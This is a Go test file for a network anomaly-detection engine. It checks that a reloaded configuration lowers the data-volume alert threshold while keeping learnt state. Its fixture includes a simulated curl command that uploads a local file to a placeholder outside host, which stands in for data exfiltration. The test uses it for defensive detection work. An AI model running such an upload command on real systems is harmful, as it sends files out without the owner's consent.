package detect

import (
	"testing"
	"time"
)

// TestReconfigure: a reloaded config (SIGHUP) is in force from the next
// flow, and what the engine learnt stays: the days of data, the state.
func TestReconfigure(t *testing.T) {
	e, c := newEngine(t, nil, nil)
	upload := func(at time.Time, port uint16) {
		f := tcp(at, "10.0.0.5", "203.0.113.9", port, 3<<20, 2000)
		f.App, f.HTTPMethod, f.HTTPBody, f.ServerName = "http", "POST", 3<<20, "upload.example"
		f.OrigProc = proc("/usr/bin/curl", "curl -T /tmp/notes.txt http://upload.example/")
		e.Flow(f)
	}
	for d := 0; d < 3; d++ {
		upload(day0.Add(time.Duration(d)*24*time.Hour), 80)
	}
	if a := c.by("AN1512"); len(a) != 0 {
		t.Fatalf("3 MB is under the default 10 MB: %+v", a)
	}
	days, entries := e.days, e.st.Entries()
	cfg, err := ParseConfig("reloaded.yaml", []byte("AN1512:\n  DataVolumeThreshold: 1MB # SI: 1,000,000 bytes\n"))
	if err != nil {
		t.Fatal(err)
	}
	e.Reconfigure(cfg)
	if e.days != days || e.st.Entries() < entries {
		t.Fatalf("the reload lost what was learnt: days %d -> %d, state entries %d -> %d", days, e.days, entries, e.st.Entries())
	}
	upload(day0.Add(3*24*time.Hour), 8080)
	a := c.by("AN1512")
	if len(a) != 1 || a[0].Evidence.Thresholds["DataVolumeThreshold"] != uint64(1_000_000) {
		t.Fatalf("after the reload: %d alerts, %#v", len(a), a[0].Evidence.Thresholds)
	}
}
